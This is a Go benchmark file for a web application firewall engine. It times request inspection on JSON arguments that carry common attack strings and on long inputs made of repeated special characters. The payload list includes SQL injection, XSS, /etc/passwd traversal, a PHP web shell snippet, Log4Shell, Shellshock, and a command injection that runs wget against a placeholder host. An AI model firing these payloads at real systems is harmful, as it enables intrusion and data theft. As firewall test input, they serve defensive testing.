package engine

import (
	"fmt"
	"math/rand"
	"strings"
	"testing"

	"github.com/merlon-dev/merlon/waf/internal/message"
)

func BenchmarkWorst(b *testing.B) {
	e := native(b, sources(1))
	attacks := []string{"1' or '1'='1' -- ", "<script>alert(1)</script>", "; cat /etc/passwd", "../../../../etc/passwd", "<?php system($_GET['x']); ?>", "${jndi:ldap://x/y}", "' union select password from users--", "javascript:alert(1)", "| ls -la /tmp; wget http://x.com/a", "{{7*7}}", "O:8:\"stdClass\":1:{s:1:\"a\";}", "() { :; }; /bin/bash -c id", "<svg onload=alert(1)>", "%24%7Bx%7D"}
	r := rand.New(rand.NewSource(1))
	for _, n := range []int{10, 100, 1000} {
		m := json(r)
		m.Body.Args = nil
		for i := range n {
			m.Body.Args = append(m.Body.Args, message.Pair{Name: fmt.Sprintf("json.%d", i), Value: attacks[i%len(attacks)] + fmt.Sprint(i)})
		}
		b.Run(fmt.Sprint("attacks-", n), func(b *testing.B) {
			start := cpu()
			for b.Loop() {
				x, _, _ := e.Request(m)
				x.Close()
			}
			b.ReportMetric(float64(cpu()-start)/float64(b.N), "cpu-ns/op")
		})
	}
	for name, s := range map[string]string{"quotes": "'\"`;|&$(){}<>=-#/*\\", "words": "select union from where cat ls wget curl bash exec system ", "percent": "%25%27%2e%2e%2f", "spaces": "   \t  ", "angle": "<a <b <c =x", "base64": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "slash": "/../..//./a", "amp": "&#x27;&lt;&amp;"} {
		m := json(r)
		m.Body.Args = []message.Pair{{Name: "json.a", Value: strings.Repeat(s, 100000/len(s))}}
		b.Run("100k-"+name, func(b *testing.B) {
			start := cpu()
			for b.Loop() {
				x, _, _ := e.Request(m)
				x.Close()
			}
			b.ReportMetric(float64(cpu()-start)/float64(b.N), "cpu-ns/op")
		})
	}
}
